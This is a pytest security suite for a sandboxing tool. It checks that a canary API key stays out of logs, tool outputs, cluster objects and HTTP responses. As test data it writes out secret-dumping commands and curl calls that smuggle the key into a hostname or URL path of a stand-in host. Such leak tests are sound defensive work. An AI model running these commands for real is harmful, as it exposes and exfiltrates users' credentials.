"""Secrets, group S, in caves: a canary is given to one, and looked for in all that can be seen of it."""

from __future__ import annotations

import base64
import json
import logging
import os
import secrets
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import docker
import httpx2
import pytest
from mcp import Client

from ghost_hub.server import hub_calls, hub_server
from ghost_mcp import Cave, CaveSpec, Ghost, GhostError
from ghost_mcp.backends.compose.backend import ComposeBackend
from ghost_mcp.backends.docker.backend import DockerBackend
from ghost_mcp.backends.kubernetes.backend import KubernetesBackend
from ghost_mcp.backends.kubernetes.cluster import Cluster
from ghost_mcp.places import Places, SessionCaves
from ghost_mcp.secrets.store import SecretStore
from ghost_mcp.spec import NetworkPolicy
from ghost_mcp.warden import runtime
from tests.clusters import NAMESPACE, own_settings
from tests.conftest import held
from tests.security.canary import canary, forms, holding, whose
from tests.serving import Served

LABEL = b"[secret API_KEY]"
# What a cluster stores; a Secret's values are there in base64.
STORED = ("pods", "configmaps", "secrets", "persistentvolumeclaims", "events")


@pytest.fixture
def folder(state_dir: Path) -> Path:
    """A state folder of this test's own."""
    made = state_dir / secrets.token_hex(4)
    made.mkdir(mode=0o711)
    return made


@pytest.fixture
def value(folder: Path) -> bytes:
    """The canary, set for the local user."""
    made = canary()
    SecretStore(folder / "secrets").set("", {"API_KEY": made})
    return made


def unseen(value: bytes, *places: bytes | str) -> None:
    """The value is in none of them, in no form."""
    for place in places:
        raw = place if isinstance(place, bytes) else place.encode("utf-8", "surrogatepass")
        for form in forms(value):
            assert form not in raw, (form, raw[:2000])


# --- S2: exposure ----------------------------------------------------------------------------------


async def exposed(cave: Cave, value: bytes, python: list[str]) -> None:
    """Its own programs see it, and no process outside of the cave."""
    check = (
        f"import os; print(os.environb[b'API_KEY'] == bytes.fromhex('{value[::-1].hex()}')[::-1])"
    )
    assert (await cave.exec([*python, check])).stdout == "True\n"
    async with cave.process(
        [*python, "import time; print('up', flush=True); time.sleep(60)"]
    ) as one:
        assert await one.receive() == (1, b"up\n")
        named, spaces = whose([value])
        assert named == []
        assert len(spaces) == 1
        assert os.readlink("/proc/self/ns/pid") not in spaces


async def test_s2_a_local_cave(folder: Path, value: bytes) -> None:
    async with (
        Ghost(backend="local", state_dir=folder) as ghost,
        await ghost.create(CaveSpec(secrets=("API_KEY",))) as cave,
    ):
        await exposed(cave, value, ["python3", "-c"])
        log = b"".join([piece async for piece in cave.logs()])
        told = [info.as_dict() for info in await ghost.list()]
        assert told[0]["spec"]["secrets"] == ["API_KEY"]
        unseen(value, log, json.dumps(told), repr(cave.info), repr(await cave.usage()))
        await cave.stop()
        assert whose([value]) == ([], set())
        assert holding(folder, forms(value)) == []
        await cave.start()
        await exposed(cave, value, ["python3", "-c"])
        assert holding(folder, forms(value)) == []


@pytest.mark.docker
@pytest.mark.parametrize("kind", [DockerBackend, ComposeBackend], ids=["docker", "compose"])
async def test_s2_a_cave_of_an_engine(
    folder: Path,
    value: bytes,
    engine: docker.APIClient,
    small_image: str,
    kind: type[DockerBackend],
) -> None:
    instance = f"test-{secrets.token_hex(4)}"
    backend = kind(instance=instance, cache=folder / "cache" / "docker")
    async with Ghost(backend=backend, state_dir=folder) as ghost:
        spec = CaveSpec(image=small_image, secrets=("API_KEY",))
        async with await ghost.create(spec) as cave:
            await exposed(cave, value, [*runtime.argv()[:-1]])
            mine = engine.containers(all=True, filters={"label": f"ghost.id={cave.id}"})
            container = mine[0]["Id"]
            shown = [
                json.dumps(engine.inspect_container(container)),
                json.dumps(engine.top(container)),
                engine.logs(container),
                json.dumps(mine),
                json.dumps(engine.volumes()),
                json.dumps(engine.inspect_image(small_image)),
                json.dumps(engine.history(small_image)),
            ]
            assert cave.id in shown[0]
            unseen(value, *shown)
            done = await cave.exec("echo $API_KEY; sleep 0; printenv API_KEY || echo $API_KEY")
            assert done.stdout_bytes.count(LABEL) == 2
            unseen(value, done.stdout_bytes, engine.logs(container))
            assert holding(folder, forms(value)) == []


@pytest.mark.kubernetes
async def test_s2_a_cave_of_kubernetes(
    folder: Path, value: bytes, small_image: str, brought: str
) -> None:
    """All kinds of the namespace are looked at, also of others: a Secret may be anywhere in it."""
    settings = own_settings("secrets", small_image, brought)
    async with (
        Ghost(backend=KubernetesBackend(settings), state_dir=folder) as ghost,
        await ghost.create(CaveSpec(secrets=("API_KEY",))) as cave,
    ):
        await exposed(cave, value, [*runtime.argv()[:-1]])
        cluster = await Cluster.open(settings)
        try:
            within = f"/api/v1/namespaces/{NAMESPACE}"
            shown = [json.dumps(await cluster.pages(f"{within}/{one}", {})) for one in STORED]
        finally:
            await cluster.aclose()
        assert cave.id in shown[0]
        log = b"".join([piece async for piece in cave.logs()])
        unseen(value, *shown, log)
        done = await cave.exec("echo $API_KEY; sleep 0; printenv API_KEY || echo $API_KEY")
        assert done.stdout_bytes.count(LABEL) == 2
        unseen(value, done.stdout_bytes)
        assert holding(folder, forms(value)) == []


async def test_s2_of_two_caves_and_two_owners_each_sees_its_own(folder: Path) -> None:
    store = SecretStore(folder / "secrets")
    hers, his = canary(), canary()
    store.set("ada", {"API_KEY": hers})
    store.set("bob", {"API_KEY": his})
    async with Ghost(backend="local", state_dir=folder, pool_size=1) as ghost:
        await ghost.warm()
        for owner, value, other in (("ada", hers, his), ("bob", his, hers)):
            spec = CaveSpec(owner=owner, secrets=("API_KEY",), ephemeral=True)
            async with await ghost.create(spec) as cave:
                await exposed(cave, value, ["python3", "-c"])
                assert whose([other]) == ([], set())
        with pytest.raises(GhostError):
            await ghost.create(CaveSpec(owner="eve", secrets=("API_KEY",)))
        async with await ghost.create(CaveSpec(owner="eve", ephemeral=True)) as cave:
            assert "API_KEY" not in (await cave.exec("env")).stdout


# --- S3: redaction ---------------------------------------------------------------------------------

# What an agent may do that shows a secret: tool, arguments, and whether the mask is then to be seen.
LOUD = "import os, sys, time\nvalue = os.environb[b'API_KEY']\n"
SPLIT = LOUD + (
    "half = len(value) // 2\n"
    "for part in (value[:half], value[half:]):\n"
    "    os.write(1, part); time.sleep(0.2)\n"
)
FLOOD = LOUD + "for n in range(4000): os.write(1, b'%06d ' % n + value + b'\\n')\n"
FORMS = LOUD + (
    "import base64, json, urllib.parse\n"
    "text = value.decode()\n"
    "for pad in range(3): print(base64.b64encode(b'x' * pad + value).decode())\n"
    "print(value.hex(), value.hex().upper(), urllib.parse.quote(text, safe=''))\n"
    "print(json.dumps(text), json.dumps(text, ensure_ascii=False))\n"
)
FILES = LOUD + (
    "name = 'of-' + value.hex()\n"
    "open('plain.txt', 'wb').write(b'first line\\nkey: ' + value + b'\\nlast line\\n')\n"
    "open('data.bin', 'wb').write(b'\\0\\xff' + value + b'\\0')\n"
    "open(name, 'w').write('x')\n"
    "open('page.html', 'w').write('<title>t</title><p>' + value.decode() + '<p id=b>' + value.hex())\n"
)


def script(source: str) -> list[str]:
    return ["python3", "-c", source]


CALLS: list[tuple[str, dict[str, Any], bool]] = [
    ("shell_exec", {"command": "printf '%s\\n' \"$API_KEY\""}, True),
    ("shell_exec", {"command": "printf '%s\\n' \"$API_KEY\" >&2; exit 3"}, True),
    ("shell_exec", {"command": "env; export -p; set"}, True),
    ("shell_exec", {"command": script(SPLIT)}, True),
    ("shell_exec", {"command": script(FORMS)}, True),
    ("shell_exec", {"command": script(FLOOD)}, True),
    ("shell_exec", {"command": "echo $API_KEY", "pty": True}, True),
    ("shell_exec", {"command": script(FILES), "changes": True}, True),
    ("shell_exec", {"command": script(LOUD + "raise SystemExit(value.decode())")}, True),
    ("file_read", {"path": "plain.txt"}, True),
    ("file_read", {"path": "plain.txt", "numbers": True}, True),
    ("file_read", {"path": "plain.txt", "encoding": "base64"}, False),
    ("file_read", {"path": "plain.txt", "offset": 20}, False),
    ("file_read", {"path": "plain.txt", "offset": 0, "limit": 30}, False),
    ("file_read", {"path": "data.bin"}, False),
    ("file_list", {"path": "."}, True),
    ("file_search", {"path": ".", "pattern": "key"}, True),
    ("file_replace", {"path": "plain.txt", "old": "first", "new": "1st"}, False),
    ("file_read", {"path": "ghost://caves/{cave}/outputs/c6/stdout"}, True),
    ("file_search", {"path": "ghost://caves/{cave}/outputs/c6/stdout", "pattern": "000777"}, True),
    ("markitdown_convert", {"path": "page.html"}, False),
]


@pytest.fixture
async def agent(folder: Path, value: bytes) -> AsyncIterator[tuple[Client, Cave, Ghost]]:
    """A client of the hub, in a cave that has the canary."""
    async with (
        held(Ghost(backend="local", state_dir=folder)) as ghost,
        held(Places(ghost)) as places,
    ):
        cave = await ghost.create(CaveSpec(name="loud", secrets=("API_KEY",)))
        async with (
            held(SessionCaves(places, pinned="loud")) as caves,
            held(Client(hub_server(hub_calls(), lambda _: caves))) as client,
        ):
            yield client, cave, ghost
        await cave.destroy()


async def test_s3_tools_resources_and_logs(
    agent: tuple[Client, Cave, Ghost],
    value: bytes,
    folder: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    client, cave, _ = agent
    caplog.set_level(logging.DEBUG)
    for tool, arguments, shown in CALLS:
        given = {
            key: part.format(cave=cave.name) if key == "path" else part
            for key, part in arguments.items()
        }
        done = await client.call_tool(tool, given)
        text = done.model_dump_json()
        unseen(value, text, json.dumps(json.loads(text), ensure_ascii=False))
        assert (LABEL.decode() in text) or not shown, (tool, given, text[:3000])
    for uri in (
        "files/plain.txt",
        "files/data.bin",
        "files/",
        "outputs/c6/stdout",
        "outputs/c6/stdout?search=000777",
    ):
        read = await client.read_resource(f"ghost://caves/{cave.name}/{uri}")
        text = read.model_dump_json()
        unseen(value, text)
        blobs = [base64.b64decode(part.blob) for part in read.contents if hasattr(part, "blob")]
        unseen(value, *blobs)
    listed = await client.list_resources()
    unseen(value, listed.model_dump_json())
    log = b"".join([piece async for piece in cave.logs()])
    assert b"python3" in log
    unseen(value, log, caplog.text)
    # In its own files the cave has it as its programs wrote it.
    assert holding(folder, forms(value), without=("workspace", "run")) == []


async def test_s3_errors(agent: tuple[Client, Cave, Ghost], value: bytes) -> None:
    client, cave, _ = agent
    text = value.decode()
    told = []
    for tool, arguments in (
        ("file_read", {"path": f"no/{text}"}),
        ("file_write", {"path": f"/proc/{text}/x", "content": "x"}),
        ("file_replace", {"path": "x", "old": text, "new": ""}),
        ("file_search", {"pattern": f"({text}"}),
        ("shell_exec", {"command": [text]}),
        ("shell_kill", {"id": text}),
        ("markitdown_convert", {"path": text}),
        ("browser_navigate", {"url": f"nosuch:{text}"}),
    ):
        done = await client.call_tool(tool, dict(arguments))
        assert done.is_error, (tool, done)
        told.append(done.model_dump_json())
    unseen(value, *told)
    assert sum(LABEL.decode() in error for error in told) >= 4, told
    with pytest.raises(GhostError) as caught:
        await cave.read(f"no/{text}")
    unseen(value, str(caught.value), caught.value.render(), json.dumps(caught.value.as_dict()))


async def test_s3_pages_of_an_output_at_any_offset(
    agent: tuple[Client, Cave, Ghost], value: bytes
) -> None:
    """However a secret is cut by a page, put together the pages do not show it."""
    client, cave, _ = agent
    await client.call_tool("shell_exec", {"command": script(FLOOD)})
    uri = f"ghost://caves/{cave.name}/outputs/c1/stdout"
    for step in (37, 100):
        joined = b""
        for offset in range(1000, 1000 + 20 * step, step):
            read = await client.read_resource(f"{uri}?offset={offset}&limit={step}")
            joined += read.contents[0].text.encode()
        assert LABEL[:9] in joined or b"***" in joined
        for start in range(len(value) - 8):
            assert value[start : start + 8] not in joined


async def test_s3_library_terminal_and_another_hub(
    folder: Path, value: bytes, agent: tuple[Client, Cave, Ghost]
) -> None:
    """Also where the value that the cave has is no longer the one that is stored, or never was."""
    _, cave, ghost = agent
    given = canary()
    spec = CaveSpec(name="given").with_secret("API_KEY", given)
    async with await ghost.create(spec):
        SecretStore(folder / "secrets").set("", {"API_KEY": canary()})
        async with Ghost(backend="local", state_dir=folder) as other:
            for name, mine in (("given", given), (cave.name, value)):
                there = await other.get(name)
                done = await there.exec(script(SPLIT + "os.write(2, value)\n"))
                assert done.stdout_bytes.startswith(LABEL)
                unseen(mine, done.stdout_bytes, done.stderr_bytes)
                async with there.process(script(SPLIT), pty=(24, 80)) as process:
                    shown = b""
                    while (piece := await process.receive()) is not None:
                        shown += piece[1]
                unseen(mine, shown)
                assert LABEL in shown
        for words in (["--", *script(SPLIT)], ["--json", "--", *script(SPLIT)]):
            program = [sys.executable, "-m", "ghost_mcp.cli", "exec", "given", *words]
            environment = {**os.environ, "GHOST_STATE_DIR": str(folder)}
            ran = await anyio.run_process(program, env=environment)
            assert LABEL in ran.stdout
            unseen(given, ran.stdout, ran.stderr)


async def test_s3_a_page_in_the_browser(agent: tuple[Client, Cave, Ghost], value: bytes) -> None:
    client, cave, _ = agent
    assert (await cave.exec(script(FILES))).exit_code == 0
    serve = "python3 -u -m http.server 8080 >server.log 2>&1"
    async with cave.process(serve):
        with anyio.fail_after(60):
            while (await cave.exec("exec 3<>/dev/tcp/127.0.0.1/8080")).exit_code:
                await anyio.sleep(0.05)
        done = await client.call_tool(
            "browser_navigate", {"url": "http://localhost:8080/page.html"}
        )
    shown = done.model_dump_json()
    assert not done.is_error, shown
    assert LABEL.decode() in shown
    unseen(value, shown)


# --- the hub over HTTP -----------------------------------------------------------------------------


async def test_s2_s3_over_http(served: Served) -> None:
    owner = f"s-{secrets.token_hex(3)}"
    value, others = canary(), canary()
    store = SecretStore(served.state / "secrets")
    store.set(owner, {"API_KEY": value})
    store.set("", {"API_KEY": others})
    async with served.client(served.make_token(owner=owner)) as http:
        refused = await http.post("/v1/caves", json={"name": "x", "secrets": ["PATH"]})
        assert refused.status_code == 400
        made = await http.post("/v1/caves", json={"name": "loud", "secrets": ["API_KEY"]})
        assert made.status_code == 201, made.text
        try:
            await _over_http(http, value)
        finally:
            await http.delete("/v1/caves/loud")
    for mine in (value, others):
        assert holding(served.state, forms(mine), without=("workspace", "run")) == []
    store.remove("", ["API_KEY"])


def test_s1_a_hub_that_crashes_leaves_no_core(served: Served) -> None:
    limits = Path(f"/proc/{served.process.pid}/limits").read_text()
    [line] = [line for line in limits.splitlines() if line.startswith("Max core file size")]
    assert line.split()[4] == "0"


async def _over_http(http: httpx2.AsyncClient, value: bytes) -> None:
    seen: list[bytes] = []
    headers = {"Ghost-Cave": "loud"}
    written = await http.post(
        "/v1/file/write", json={"path": "make.py", "content": FILES}, headers=headers
    )
    assert written.status_code == 200, written.text
    for url, body in (
        ("/v1/shell/exec", {"command": "python3 make.py; cat plain.txt"}),
        ("/v1/file/read", {"path": "plain.txt"}),
        ("/v1/file/list", {"path": "."}),
        ("/v1/file/search", {"path": ".", "pattern": "key"}),
    ):
        seen.append((await http.post(url, json=body, headers=headers)).content)
        assert LABEL in seen[-1], (url, seen[-1])
    for path in ("plain.txt", "data.bin"):
        size = len(value) + (27 if path == "plain.txt" else 3)
        whole = await http.post("/v1/filesystem/download", json={"path": path}, headers=headers)
        assert LABEL in whole.content
        assert int(whole.headers["content-length"]) == len(whole.content) == size
        seen.append(whole.content)
    for url in ("", "/loud", "/loud/logs", "/loud/stats"):
        told = await http.get(f"/v1/caves{url}")
        assert told.status_code == 200
        seen += [told.content]
    unseen(value, *seen)


async def test_s3_a_secret_in_a_name_that_is_asked_for(folder: Path) -> None:
    """It is refused, and what was refused is written down on the host: without the value."""
    value = f"Aa{secrets.token_hex(12)}Zz"
    async with Ghost(backend="local", state_dir=folder) as ghost:
        spec = CaveSpec(ephemeral=True, network=NetworkPolicy(mode="allow", allow=("a.example",)))
        async with await ghost.create(spec.with_secret("API_KEY", value)) as cave:
            ask = (
                "curl -s -m 20 http://$API_KEY.example/; curl -s -m 20 http://a.example:81/$API_KEY"
            )
            told = await cave.exec(ask)
            found = cave.connections()
            assert [step["event"] for step in found] == ["refused", "refused"], told
            unseen(value.encode(), json.dumps(found))
            unseen(value.lower().encode(), json.dumps(found))
            assert (
                holding(folder, forms(value.lower().encode()), without=("workspace", "run", "home"))
                == []
            )
